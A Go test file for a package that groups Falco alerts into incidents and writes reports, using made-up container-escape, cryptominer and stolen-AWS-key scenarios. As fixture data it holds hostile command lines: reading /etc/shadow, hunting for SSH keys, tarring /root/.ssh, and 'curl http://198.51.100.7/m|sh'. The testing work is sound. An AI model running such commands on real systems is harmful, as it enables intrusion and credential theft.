package report

import (
	"encoding/json"
	"fmt"
	"math/rand/v2"
	"os"
	"strings"
	"testing"
	"time"

	"github.com/falconer-go/falconer/event"
	"github.com/google/go-cmp/cmp"
)

// The scenarios below are made up for these tests, alert by alert, in the form
// that Falco prints; each is mixed with noise of other workloads.

var began = time.Date(2026, 9, 17, 1, 30, 0, 0, time.UTC)

// alertAt returns an alert at seconds after the beginning.
func alertAt(t testing.TB, seconds float64, host, source, rule, priority string, tags []string, fields map[string]any) *event.Event {
	t.Helper()
	at := began.Add(time.Duration(seconds * float64(time.Second)))
	out := map[string]any{"evt.time": at.UnixNano()}
	for k, v := range fields {
		out[k] = v
	}
	line, err := json.Marshal(map[string]any{
		"hostname": host, "source": source, "rule": rule, "priority": priority, "tags": tags,
		"time": at.Format("2006-01-02T15:04:05.000000000Z"), "output": rule, "output_fields": out,
	})
	if err != nil {
		t.Fatal(err)
	}
	return parse(t, line)
}

func in(container, pod string, fields map[string]any) map[string]any {
	m := map[string]any{
		"container.id": container, "container.name": "c-" + container[:4], "evt.type": "execve", "user.name": "root", "user.uid": 0,
		"user.loginuid": -1, "proc.tty": 0, "k8s.pod.name": pod, "k8s.ns.name": "shop", "container.image.repository": "registry.example.com/shop/" + pod,
	}
	for k, v := range fields {
		m[k] = v
	}
	return m
}

// noise are n alerts of workloads that have nothing to do with the incident, a
// container each.
func noise(t testing.TB, n int, host string) []*event.Event {
	r := rand.New(rand.NewPCG(1, 2))
	var list []*event.Event
	for i := range n {
		list = append(list, alertAt(t, r.Float64()*600, host, "syscall", "Contact K8S API Server From Container", "Notice", []string{"T1565"},
			in(fmt.Sprintf("aaaa%08x", i), fmt.Sprintf("controller-%d", i), map[string]any{"proc.name": "manager", "proc.pname": "containerd-shim", "proc.cmdline": "manager --leader-elect", "evt.type": "connect"})))
	}
	return list
}

// escape: a web shell in a pod, a look around, an escape, then the node.
func escape(t testing.TB) []*event.Event {
	const c, pod = "4b2a3d90c1f7", "checkout"
	web := map[string]any{"proc.aname[2]": "php-fpm", "proc.aname[3]": "php-fpm", "proc.pname": "sh"}
	with := func(fields map[string]any) map[string]any {
		for k, v := range web {
			if _, ok := fields[k]; !ok {
				fields[k] = v
			}
		}
		return in(c, pod, fields)
	}
	list := []*event.Event{
		alertAt(t, 2, "node-7", "syscall", "Run shell untrusted", "Notice", []string{"T1059.004", "mitre_execution"}, in(c, pod, map[string]any{"proc.name": "sh", "proc.pname": "php-fpm", "proc.aname[2]": "php-fpm", "proc.cmdline": "sh -c id"})),
		alertAt(t, 9, "node-7", "syscall", "Read sensitive file untrusted", "Warning", []string{"T1555", "mitre_credential_access"}, with(map[string]any{"proc.name": "cat", "proc.cmdline": "cat /etc/shadow", "fd.name": "/etc/shadow", "evt.type": "openat"})),
		alertAt(t, 15, "node-7", "syscall", "Search Private Keys or Passwords", "Warning", []string{"T1552.001", "mitre_credential_access"}, with(map[string]any{"proc.name": "find", "proc.cmdline": "find / -name id_rsa"})),
		alertAt(t, 21, "node-7", "syscall", "Drop and execute new binary in container", "Critical", []string{"TA0003", "mitre_persistence"}, with(map[string]any{"proc.name": "x", "proc.exepath": "/tmp/x", "proc.cmdline": "/tmp/x --all"})),
		alertAt(t, 33, "node-7", "syscall", "Detect release_agent File Container Escapes", "Critical", []string{"T1611", "mitre_privilege_escalation"}, with(map[string]any{"proc.name": "x", "proc.exepath": "/tmp/x", "proc.cmdline": "/tmp/x --all", "fd.name": "/sys/fs/cgroup/rdma/release_agent", "evt.type": "openat"})),
	}
	for i := range 30 {
		list = append(list, alertAt(t, 35+float64(i), "node-7", "syscall", "Read ssh information", "Error", []string{"T1005"},
			map[string]any{"container.id": "host", "proc.name": "tar", "proc.pname": "sh", "proc.cmdline": "tar c /root/.ssh", "fd.name": fmt.Sprintf("/root/.ssh/k%d", i), "evt.type": "openat", "user.name": "root", "user.uid": 0, "user.loginuid": -1, "proc.tty": 0}))
	}
	return list
}

// miner: a web shell in one pod pulls a miner, which talks to its pool.
func miner(t testing.TB) []*event.Event {
	const c, pod = "9f00aa11bb22", "blog"
	list := []*event.Event{
		alertAt(t, 1, "node-2", "syscall", "Run shell untrusted", "Notice", []string{"T1059.004"}, in(c, pod, map[string]any{"proc.name": "bash", "proc.pname": "httpd", "proc.cmdline": "bash -c curl http://198.51.100.7/m|sh"})),
		alertAt(t, 3, "node-2", "syscall", "Launch Suspicious Network Tool in Container", "Notice", []string{"T1059"}, in(c, pod, map[string]any{"proc.name": "curl", "proc.pname": "bash", "proc.aname[2]": "httpd", "proc.cmdline": "curl http://198.51.100.7/m"})),
		alertAt(t, 8, "node-2", "syscall", "Drop and execute new binary in container", "Critical", []string{"TA0003"}, in(c, pod, map[string]any{"proc.name": "kworkerds", "proc.exepath": "/tmp/.k/kworkerds", "proc.pname": "bash", "proc.aname[2]": "httpd", "proc.cmdline": "/tmp/.k/kworkerds -o stratum+tcp://pool.example.com:3333"})),
	}
	for i := range 200 {
		list = append(list, alertAt(t, 10+2*float64(i), "node-2", "syscall", "Detect outbound connections to common miner pool ports", "Critical", []string{"T1496"},
			in(c, pod, map[string]any{"proc.name": "kworkerds", "proc.exepath": "/tmp/.k/kworkerds", "proc.pname": "bash", "proc.aname[2]": "httpd", "proc.cmdline": "/tmp/.k/kworkerds -o stratum+tcp://pool.example.com:3333", "fd.sip": "203.0.113.50", "fd.sport": 3333, "evt.type": "connect"})))
	}
	return list
}

// stolenKey: a cloud key that somebody else uses from a new address.
func stolenKey(t testing.TB) []*event.Event {
	call := func(at float64, rule, priority, name string) *event.Event {
		return alertAt(t, at, "collector", "aws_cloudtrail", rule, priority, []string{"aws", "cloud"},
			map[string]any{"ct.user": "deploy", "ct.srcip": "203.0.113.80", "ct.region": "eu-west-1", "ct.name": name})
	}
	list := []*event.Event{
		call(0, "Create AWS user", "Informational", "CreateUser"),
		call(20, "Add AWS User to Group", "Informational", "AddUserToGroup"),
		call(45, "CloudTrail Logging Disabled", "Warning", "StopLogging"),
		call(60, "Delete Bucket Encryption", "Critical", "DeleteBucketEncryption"),
	}
	for i := range 40 {
		list = append(list, call(70+float64(i), "List Buckets", "Warning", "ListBuckets"))
	}
	return list
}

func TestScenarios(t *testing.T) {
	for _, tc := range []struct {
		name    string
		attack  []*event.Event
		noise   []*event.Event
		says    []string
		noTree  bool
		tactics []string // in this order
	}{
		{"container escape", escape(t), noise(t, 60, "node-7"), []string{"php-fpm", "release_agent", "`/root/.ssh/k0`", "30 times"}, false, []string{"TA0002", "TA0004", "TA0006"}},
		{"miner", miner(t), noise(t, 80, "node-2"), []string{"kworkerds", "200 times", "203.0.113.50"}, false, []string{"TA0002", "TA0040"}},
		{"stolen cloud key", stolenKey(t), noise(t, 50, "node-9"), []string{"deploy", "203.0.113.80", "40 times", "No alert of the incident names a process"}, true, nil},
	} {
		t.Run(tc.name, func(t *testing.T) {
			mixed := append(append([]*event.Event(nil), tc.attack...), tc.noise...)
			rand.New(rand.NewPCG(3, 4)).Shuffle(len(mixed), func(i, j int) { mixed[i], mixed[j] = mixed[j], mixed[i] })
			groups := Group(mixed, GroupOptions{})
			if len(groups) != 1+len(tc.noise) {
				t.Fatalf("%d incidents, want the attack and %d of noise", len(groups), len(tc.noise))
			}
			var attack []*event.Event
			for _, g := range groups {
				if len(g) > 1 {
					attack = g
				}
			}
			if len(attack) != len(tc.attack) {
				t.Fatalf("the attack has %d alerts, want %d", len(attack), len(tc.attack))
			}
			r := Incident(attack...)
			md := r.Markdown()
			for _, want := range tc.says {
				if !strings.Contains(md, want) {
					t.Errorf("the story does not say %q", want)
				}
			}
			_, table, _ := strings.Cut(md, "\n## Techniques\n")
			at := 0
			for _, id := range tc.tactics {
				i := strings.Index(table[at:], id)
				if i < 0 {
					t.Errorf("tactic %s is missing or out of order", id)
					break
				}
				at += i
			}
			golden := "testdata/incidents/" + strings.ReplaceAll(tc.name, " ", "-") + ".md"
			if *update {
				if err := os.WriteFile(golden, []byte(md), 0o644); err != nil {
					t.Fatal(err)
				}
			}
			want, err := os.ReadFile(golden)
			if err != nil {
				t.Fatal(err)
			}
			if diff := cmp.Diff(string(want), md); diff != "" {
				t.Errorf("%s (-want +got):\n%s", golden, diff)
			}
			if html := r.HTML(); strings.Contains(html, "<svg") == tc.noTree {
				t.Errorf("picture of the processes: %v", tc.noTree)
			}
			checkText(t, "text", r.Text(), tc.name)
			checkText(t, "markdown", md, tc.name)
		})
	}
}

// TestStoryOfMany holds that an incident of 10,000 alerts is told within bounds.
func TestStoryOfMany(t *testing.T) {
	var alerts []*event.Event
	for i := range 10_000 {
		alerts = append(alerts, alertAt(t, float64(i)/10, "node-1", "syscall", fmt.Sprintf("Rule %d", i%500), "Warning", nil,
			in("4b2a3d90c1f7", "p", map[string]any{"proc.name": fmt.Sprintf("p%d", i%700), "proc.cmdline": fmt.Sprintf("p%d --run", i)})))
	}
	md := Incident(alerts...).Markdown()
	if len(md) > 200_000 {
		t.Errorf("the story of 10000 alerts has %d bytes", len(md))
	}
	for _, want := range []string{"10000 alerts", "more kinds of alerts", "... and 99"} {
		if !strings.Contains(md, want) {
			t.Errorf("the story does not say %q", want)
		}
	}
}

// TestStoryDays: times have a date where an incident goes past midnight, and a
// connection is no file.
func TestStoryDays(t *testing.T) {
	fields := map[string]any{"fd.name": "10.0.0.1:1->192.0.2.1:2", "fd.type": "ipv4"}
	first := alertAt(t, 0, "node-1", "syscall", "R", "Warning", nil, fields)
	md := Incident(first, alertAt(t, 86_400, "node-1", "syscall", "S", "Warning", nil, fields)).Markdown()
	for _, want := range []string{"| 2026-09-17 01:30:00.000 |", "| 2026-09-18 01:30:00.000 |"} {
		if !strings.Contains(md, want) {
			t.Errorf("the timeline lacks %q", want)
		}
	}
	if strings.Contains(md, "| Files |") {
		t.Error("the connection stands among the files")
	}
	if md := Incident(first).Markdown(); !strings.Contains(md, "| 01:30:00.000 |") {
		t.Error("the timeline of one day has dates")
	}
}

func BenchmarkIncident(b *testing.B) {
	var alerts []*event.Event
	for i := range 10_000 {
		alerts = append(alerts, alertAt(b, float64(i)/10, "node-1", "syscall", fmt.Sprintf("Rule %d", i%50), "Warning", nil,
			in("4b2a3d90c1f7", "p", map[string]any{"proc.name": fmt.Sprintf("p%d", i%70)})))
	}
	b.ReportAllocs()
	for b.Loop() {
		Incident(alerts...).AppendMarkdown(nil)
	}
}
